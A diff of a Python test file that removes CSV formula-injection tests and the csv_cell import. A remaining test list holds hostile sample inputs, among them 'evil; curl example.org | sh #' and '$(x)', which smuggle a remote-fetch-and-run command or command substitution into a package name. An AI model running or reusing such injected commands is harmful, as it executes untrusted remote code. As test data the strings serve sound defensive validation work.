@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import os
 import shlex
 import subprocess
@@ -16,7 +14,6 @@ from zoo.errors import UsageError, ZooError
 from zoo.text import (
     code_block,
     code_span,
-    csv_cell,
     markdown,
     message,
     pip_command,
@@ -145,19 +142,6 @@ def test_no_text_ends_its_code(text: str) -> None:
     first, *inside, last = block.split("\n")
     assert first == f"{last}console"
     assert not any(line.startswith(last) for line in inside)
-
-
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " =", "\t="])
-def test_no_cell_is_a_formula(start: str) -> None:
-    file = io.StringIO()
-    csv.writer(file).writerow([csv_cell(f"{start}1+1")])
-    (cell,) = next(csv.reader([file.getvalue()]))
-    assert cell.startswith("'")
-
-
-@pytest.mark.parametrize("text", ["emma", "1.5", "a=b", ""])
-def test_other_cells_stay(text: str) -> None:
-    assert csv_cell(text) == text
 
 
 NO_NAMES = ["evil; curl example.org | sh #", "-r x.txt", "git+https://example.org/x", "a b", "", "a\n", "$(x)", "a'b"]
